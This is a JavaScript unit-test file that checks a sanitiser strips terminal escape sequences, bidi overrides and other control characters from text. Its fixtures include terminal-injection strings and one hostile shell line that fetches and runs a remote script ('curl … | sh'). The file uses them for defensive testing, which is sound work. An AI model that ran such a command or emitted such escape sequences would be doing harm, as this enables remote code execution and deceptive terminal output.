import { describe, expect, it } from 'vitest';
import { stripTerminalControls } from '../../../src/render/strip-terminal-controls.js';
import { hostileValues } from '../../support/report-document.js';

const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('stripTerminalControls', () => {
  it.each([
    ['CSI colour', 'a\u001b[31mred\u001b[0mb', 'aredb'],
    ['CSI with private parameters', 'a\u001b[?25lb', 'ab'],
    ['clear screen and home', 'root\u001b[2J\u001b[H', 'root'],
    ['8-bit CSI', 'a\u009b31mb', 'ab'],
    ['OSC title ended by BEL', 'x\u001b]0;pwned\u0007y', 'xy'],
    ['OSC hyperlink ended by ST', '\u001b]8;;http://evil\u001b\\link\u001b]8;;\u001b\\', 'link'],
    ['DCS string', 'a\u001bPqpayload\u001b\\b', 'ab'],
    ['APC string, 8-bit', 'a\u009fpayload\u009cb', 'ab'],
    ['two-byte escape (reset)', 'a\u001bcb', 'ab'],
    ['unterminated OSC', 'a\u001b]0;title', 'a0;title'],
    ['BEL', 'ding\u0007', 'ding'],
    ['backspaces', 'safe\b\b\b\bevil', 'safeevil'],
    ['carriage return', 'shown\rhidden', 'shownhidden'],
    ['NUL and DEL', 'a\u0000b\u007fc', 'abc'],
    ['bidi override and isolate', 'a\u202eevil\u202c\u2066b\u2069', 'aevilb'],
    ['newline and tab kept', 'a\n\tb', 'a\n\tb'],
    [
      'ordinary text kept',
      'curl -s http://203.0.113.7/x.sh | sh # ünïcode ✓',
      'curl -s http://203.0.113.7/x.sh | sh # ünïcode ✓',
    ],
  ])('%s', (_name, input, expected) => {
    expect(stripTerminalControls(input)).toBe(expected);
  });

  it('leaves no control character in any hostile fixture value', () => {
    for (const value of hostileValues()) expect(stripTerminalControls(value)).not.toMatch(CONTROL);
  });

  it('leaves no control character in any byte soup', () => {
    let soup = '';
    for (let code = 0; code < 0x2100; code += 1) soup += String.fromCharCode(code);
    expect(stripTerminalControls(soup + soup.split('').reverse().join(''))).not.toMatch(CONTROL);
  });
});
